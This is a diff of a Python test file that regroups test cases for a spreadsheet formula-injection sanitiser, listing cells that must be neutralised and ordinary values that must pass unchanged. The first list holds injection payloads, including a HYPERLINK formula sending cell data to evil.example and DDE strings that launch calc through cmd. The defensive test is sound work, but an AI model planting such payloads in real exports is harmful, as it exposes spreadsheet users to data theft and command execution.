@@ -22,20 +22,9 @@ def test_an_empty_row_is_a_row() -> None:
 @pytest.mark.parametrize(
     "cell",
     [
-        "=1+1",
-        '=HYPERLINK("http://evil.example?"&A1,"Total")',
-        "+cmd|' /C calc'!A0",
-        "-2+3+cmd|' /C calc'!A0",
-        "@SUM(1)",
-        "\t=1+1",
-        "\r=1",
-        " =1",
-        "\n=1",
-        "\uff1d1+1",
-        "\u22121+1",
-        "|calc",
-        "%0A=1",
-        "+31 6 1234 x",
+        *("=1+1", '=HYPERLINK("http://evil.example?"&A1,"Total")', "+cmd|' /C calc'!A0"),
+        *("-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1", " =1", "\n=1", "\uff1d1+1"),
+        *("\u22121+1", "|calc", "%0A=1", "+31 6 1234 x"),
     ],
 )  # fmt: skip
 def test_what_a_spreadsheet_would_compute_is_marked_as_text(cell: str) -> None:
@@ -46,18 +35,8 @@ def test_what_a_spreadsheet_would_compute_is_marked_as_text(cell: str) -> None:
 @pytest.mark.parametrize(
     "cell",
     [
-        "",
-        "plain",
-        "1007",
-        "-5",
-        "+5",
-        "-1.250,00",
-        "-0.5",
-        "-3e10",
-        "-12 %",
-        "a=b",
-        "e-mail",
-        "1-2",
+        *("", "plain", "1007", "-5", "+5", "-1.250,00", "-0.5", "-3e10", "-12 %", "a=b"),
+        *("e-mail", "1-2"),
     ],
 )
 def test_numbers_and_words_are_left_as_they_are(cell: str) -> None:
